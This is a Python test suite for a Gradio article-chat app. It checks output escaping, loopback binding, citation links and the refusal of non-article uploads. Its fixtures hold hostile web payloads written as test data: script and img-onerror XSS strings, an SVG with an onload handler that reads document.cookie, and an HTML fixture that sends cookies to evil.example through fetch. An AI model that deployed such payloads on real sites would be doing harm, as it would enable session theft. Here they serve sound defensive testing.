"""The web chat: a real Gradio server, called by gradio_client, rendering answers safely."""

from __future__ import annotations

import contextlib
import os
import socket
import subprocess
import sys
import time
import urllib.request

import pytest
from conftest import ROOT, stop

from assistant.types import Answer, Citation
from assistant.web import escape, render_answer


def test_article_text_never_renders_as_markup():
    hostile = 'Boom <script>alert(1)</script> <img src=x onerror=alert(2)> ![p](http://evil.example/x.png) [l](http://evil.example)'
    out = escape(hostile)
    assert "<script" not in out and "<img" not in out
    assert "](" not in out and "![" not in out


def test_rendered_answer_is_escaped_and_its_markers_link_to_the_panel():
    c = Citation(1, "d", "T <b>", 3, 0, 5, "Hello <i>x</i>.", 0.9)
    md = render_answer(Answer(question="q", text="\u201cHello <i>x</i>.\u201d [1]", citations=[c]))
    assert "<i>" not in md and "<b>" not in md and "&lt;i&gt;" in md
    assert 'class="qa-cite-link qa-chat-cite"' in md and ">[1]</button>" in md
    assert "Sources" not in md and md.count("Hello") == 1  # said once; the panel has the rest


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextlib.contextmanager
def running_app(corpus, data_dir, timeout: float = 180):
    """app.py on a free loopback port over `corpus`, with its index and uploads under `data_dir`."""
    port = _free_port()
    env = {**os.environ, "GRADIO_SERVER_PORT": str(port), "ASSISTANT_CORPUS_DIR": str(corpus),
           "ASSISTANT_DATA_DIR": str(data_dir)}
    proc = subprocess.Popen([sys.executable, "app.py"], cwd=ROOT, env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    url = f"http://127.0.0.1:{port}/"
    try:
        wait_until_serving(url, proc, timeout)
        yield url
    finally:
        stop(proc)


def wait_until_serving(url: str, proc: subprocess.Popen, timeout: float) -> None:
    """Return once `url` answers; RuntimeError if the process exits or time runs out first."""
    deadline = time.time() + timeout
    while time.time() < deadline:
        if proc.poll() is not None:
            raise RuntimeError("app.py exited:\n" + (proc.stdout.read() if proc.stdout else ""))
        try:
            urllib.request.urlopen(url, timeout=2)
            return
        except OSError:
            time.sleep(0.5)
    raise RuntimeError(f"app.py did not answer within {timeout:.0f} s")


@pytest.fixture(scope="module")
def server(two_article_corpus, tmp_path_factory):
    with running_app(two_article_corpus, tmp_path_factory.mktemp("webdata")) as url:
        yield url


@pytest.mark.integration
def test_ask_endpoint_returns_the_library_answer(server, bot):
    from gradio_client import Client

    client = Client(server, verbose=False)
    question = "How many ethnic Armenians live in Nagorno-Karabakh?"
    remote = client.predict(question, [], api_name="/ask")
    local = bot.ask(question).to_dict()
    assert remote["text"] == local["text"]
    assert [c["text"] for c in remote["citations"]] == [c["text"] for c in local["citations"]]


@pytest.mark.integration
def test_server_binds_to_loopback_only(server):
    port = int(server.rsplit(":", 1)[1].strip("/"))
    listening = []
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with open(table) as f:
            for line in f.readlines()[1:]:
                local, state = line.split()[1], line.split()[3]
                addr, hex_port = local.split(":")
                if state == "0A" and int(hex_port, 16) == port:  # 0A = LISTEN
                    listening.append(addr)
    assert listening == ["0100007F"]  # 127.0.0.1 only, nothing on all interfaces


def _doc():
    from assistant.documents import build_document

    paragraph = "It is 1.4 kilometres long. It cost $4 <script>x()</script>."
    return build_document("Bridge <b>Opens</b>", [paragraph], source="t")


def _cite(doc, index: int, marker: int) -> Citation:
    s = doc.sentences[index]
    return Citation(marker, doc.doc_id, doc.title, s.index, s.start, s.end, s.text, 0.9)


def test_article_view_marks_cited_sentences_and_escapes_the_rest():
    from assistant.web_render import render_article

    doc = _doc()
    out = render_article(doc, [_cite(doc, 2, 1)])
    assert '<mark class="qa-mark" id="qa-mark-1" data-marker="1">' in out
    assert "&lt;script&gt;x()&lt;/script&gt;" in out and "<script" not in out and "<b>" not in out
    assert "&#36;4" in out  # no ${...} reaches the component's template


def test_sources_panel_links_each_citation_to_its_mark():
    from assistant.web_render import render_sources

    doc = _doc()
    answer = Answer(question="q", text="x [1]", citations=[_cite(doc, 1, 1)])
    out = render_sources(answer, {doc.doc_id: doc})
    assert 'data-target="qa-mark-1"' in out and 'id="qa-mark-1"' in out
    abstained = render_sources(Answer(question="q", text="The articles do not say.", abstained=True),
                               {doc.doc_id: doc}, {doc.doc_id: ["How long is it?"]})
    assert "Not in the articles" in abstained and "Bridge &lt;b&gt;Opens&lt;/b&gt;" in abstained


def test_number_of_sources_drops_later_citations_and_their_quotes():
    from assistant.web_render import limit_citations

    doc = _doc()
    answer = Answer(question="q", text="\u201cA\u201d [1]\n\n\u201cB\u201d [2]",
                    citations=[_cite(doc, 1, 1), _cite(doc, 2, 2)])
    one = limit_citations(answer, 1)
    assert one.text == "\u201cA\u201d [1]" and [c.marker for c in one.citations] == [1]
    assert limit_citations(answer, 3) is answer


def test_suggested_questions_come_from_the_article_itself():
    from assistant.documents import load_file
    from assistant.suggestions import candidate_questions, suggest

    doc = load_file(ROOT / "tests" / "data" / "articles" / "harbour-bridge.txt", max_bytes=10**6)
    questions = candidate_questions(doc)
    assert "Who is Elena Ruiz?" in questions and "What happened in 2021?" in questions
    assert "How many residents attended the ceremony?" in questions
    assert questions == candidate_questions(doc)  # deterministic
    assert suggest(doc, 2, answerable=lambda q: "Varga" in q) == ["What did Tomas Varga say?",
                                                                 "Who is Tomas Varga?"]


def test_upload_refuses_other_file_types_and_oversize_files_before_touching_the_index(tmp_path):
    from assistant.web import add_article

    exe = tmp_path / "tool.exe"
    exe.write_bytes(b"MZ")
    message, doc = add_article(None, exe, tmp_path / "uploads")
    assert doc is None and message.startswith("Could not add tool.exe: only article files")
    big = tmp_path / "big.txt"
    big.write_text("word " * 1000)
    message, doc = add_article(None, big, tmp_path / "uploads", max_bytes=100)
    assert doc is None and "the limit is" in message
    assert not (tmp_path / "uploads").exists()


_SVG = ('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        '<script>alert(document.cookie)</script><text x="1" y="9">The bridge opened in 2021 and carries '
        'forty thousand cars a day.</text></svg>\n')
_PAGE = ("<!DOCTYPE html>\n<html><head><title>Bridge</title></head><body><p>The bridge opened in 2021 "
         "and carries forty thousand cars a day across the harbour.</p></body></html>\n")


@pytest.mark.parametrize("name, content, reason", [
    ("logo.svg", _SVG, "only article files (.txt, .md, .html, .pdf) can be added"),
    ("logo.txt", _SVG, "it is an SVG image, not an article"),
    ("logo.md", _SVG, "it is an SVG image, not an article"),
    ("logo.html", _SVG, "it is an SVG image, not an article"),
    ("bare.htm", _SVG.split("\n", 1)[1], "it is an SVG image, not an article"),  # no XML declaration
    ("page.txt", _PAGE, "it is an HTML page, not .txt text (add it as .html)"),
    ("feed.html", '<?xml version="1.0"?><rss><channel><title>x</title></channel></rss>',
     "it is an XML document (<rss>), not an HTML page"),
    ("script.html", "<!DOCTYPE html><html><head><title>Article</title><script>fetch('//evil.example/'"
                    "+document.cookie)</script></head><body><script>document.write('hi')</script></body></html>",
     "no article text found in the HTML"),
])
def test_upload_refuses_svg_and_markup_that_is_not_an_article_before_touching_the_index(
        tmp_path, name, content, reason):
    from assistant.web import add_article

    upload = tmp_path / name
    upload.write_text(content)
    # bot=None: any look at the index (documents, ingest) would raise instead of refusing.
    message, doc = add_article(None, upload, tmp_path / "uploads")
    assert doc is None and message == f"Could not add {name}: {reason}."
    assert not (tmp_path / "uploads").exists()


def test_upload_refuses_html_that_trips_the_parser_instead_of_crashing(tmp_path, monkeypatch):
    import trafilatura

    from assistant.web import add_article

    def trips(*args, **kwargs):
        raise AssertionError  # what lxml's drop_tree raised on a bare <svg> before the sniffing

    monkeypatch.setattr(trafilatura, "extract_metadata", trips)
    upload = tmp_path / "odd.html"
    upload.write_text(_PAGE)
    message, doc = add_article(None, upload, tmp_path / "uploads")
    assert doc is None and message == "Could not add odd.html: the HTML could not be read (AssertionError)."
    assert not (tmp_path / "uploads").exists()


def test_sniffing_keeps_real_articles_with_inline_markup():
    from assistant.documents import sniff_markup

    article = ("<!DOCTYPE html><html><body><svg><path d='M0 0'/></svg><script>track()</script>"
               "<p>The bridge opened in 2021.</p></body></html>")
    sniff_markup(article, ".html")  # an HTML page may carry icons and scripts; only its text is kept
    sniff_markup('<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><p>x</p></html>', ".htm")
    sniff_markup('<p align="center"><img src="logo.png"></p>\n\n# Bridge\n\nIt opened in 2021.', ".md")
    sniff_markup("Bridge opens\n\nThe <svg> format is used for icons. It opened in 2021.", ".txt")
